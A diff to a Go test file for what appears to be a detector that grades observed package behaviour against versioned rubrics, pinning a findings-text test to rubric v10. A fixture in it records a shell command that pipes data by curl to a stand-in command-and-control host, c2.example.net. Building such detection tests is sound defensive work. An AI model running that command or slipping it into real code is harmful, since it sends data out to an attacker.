@@ -425,6 +425,9 @@ func TestBehaviorZeroPointReasons(t *testing.T) {
 	}
 }
 
+// TestBehaviorFindingText pins the behaviour findings' text under rubric
+// v10, whose beacon is any network activity after the listing; v11's
+// beacon and stage wording: TestBeaconFindingTextV11.
 func TestBehaviorFindingText(t *testing.T) {
 	b := okBundle()
 	watched(func(bh *evidence.Behavior) {
@@ -450,7 +453,7 @@ func TestBehaviorFindingText(t *testing.T) {
 			Argv: []string{"sh", "-c", "curl -s -d @- http://c2.example.net/beat"},
 		})
 	})(b)
-	res := Evaluate(b, Current())
+	res := Evaluate(b, mustLoad(t, "10"))
 	got := map[string]Finding{}
 	for _, f := range res.Findings {
 		got[f.Code+" "+f.Subject+" "+f.Evidence] = f
